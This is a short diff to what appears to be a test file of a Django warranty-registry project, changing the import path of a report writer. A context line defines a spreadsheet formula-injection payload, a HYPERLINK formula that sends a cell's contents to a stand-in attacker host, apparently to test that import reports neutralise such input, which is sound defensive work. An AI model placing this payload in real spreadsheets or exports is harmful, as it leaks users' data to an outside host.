@@ -11,7 +11,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from shouhou.registry.imports import RowError
-from shouhou.registry.imports_report import write_report
+from shouhou.registry.imports.report import write_report
 from shouhou.registry.models import Dealer, ProductModel, Unit
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
